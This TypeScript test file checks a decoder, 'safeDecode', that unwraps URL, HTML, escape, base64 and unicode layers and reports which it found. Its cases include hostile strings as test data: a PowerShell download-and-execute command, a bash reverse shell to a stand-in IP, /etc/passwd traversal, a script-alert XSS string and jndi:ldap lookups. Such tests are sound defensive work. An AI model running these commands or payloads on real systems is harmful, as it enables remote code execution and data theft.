import fc from 'fast-check';
import { expect, test } from 'vitest';
import { mayHide } from './may-hide.ts';
import { safeDecode } from './safe-decode.ts';

const powershell = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://x.example/a")', 'utf16le').toString('base64');
const url = encodeURIComponent(encodeURIComponent('../../etc/passwd'));

test.each([
  ['/a/b?id=1', '/a/b?id=1', []],
  ['..%2f..%2Fetc%2fpasswd', '../../etc/passwd', ['url']],
  ['%252e%252e%252fetc', '../etc', ['url', 'url']],
  [url, '../../etc/passwd', ['url', 'url']],
  ['%u0061%u0064min', 'admin', ['url']],
  ['&lt;script&gt;alert&#40;1&#x29;&lt;/script&gt;', '<script>alert(1)</script>', ['html']],
  ['%26lt%3Bscript%26gt%3B', '<script>', ['url', 'html']],
  ['\\u0024\\u007bjndi:ldap://x}', '${jndi:ldap://x}', ['escape']],
  ['\\x24{jndi}', '${jndi}', ['escape']],
  [`powershell -enc ${powershell}`, 'powershell -enc IEX (New-Object Net.WebClient).DownloadString("http://x.example/a")', ['base64']],
  [
    `x=${Buffer.from('/bin/bash -i >& /dev/tcp/198.51.100.7/4444').toString('base64')}`,
    'x=/bin/bash -i >& /dev/tcp/198.51.100.7/4444',
    ['base64'],
  ],
  ['ｐｏｗｅｒｓｈｅｌｌ', 'powershell', ['unicode']],
  ['p\u200bowershell', 'powershell', ['unicode']],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', []],
  ['S-1-5-21-1644491937-1078145449-682003330', 'S-1-5-21-1644491937-1078145449-682003330', []],
  ['5fcf2a0e8d3b4b0f9a7c', '5fcf2a0e8d3b4b0f9a7c', []],
  ['%zz%', '%zz%', []],
] as const)('%j says %j by %j', (given, text, layers) => {
  expect(safeDecode(given)).toEqual({ text, layers, isCut: false });
});

test('layers and characters are bounded, and it is said', () => {
  let deep = '<';
  for (let i = 0; i < 9; i++) deep = encodeURIComponent(deep);
  expect(safeDecode(deep)).toMatchObject({ isCut: true, layers: ['url', 'url', 'url', 'url', 'url'] });
  const long = `${'%41'.repeat(40_000)}`;
  const { isCut, text } = safeDecode(long);
  expect(isCut).toBe(true);
  expect(text.length).toBeLessThanOrEqual(65_536);
});

test('any text comes out without a throw, is no longer, and hides nothing where nothing was seen', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (given) => {
      const { text, layers } = safeDecode(given);
      expect(text.length).toBeLessThanOrEqual(given.length * 18);
      if (!mayHide(given)) expect(layers).toEqual([]);
    }),
    { numRuns: 2000 },
  );
});
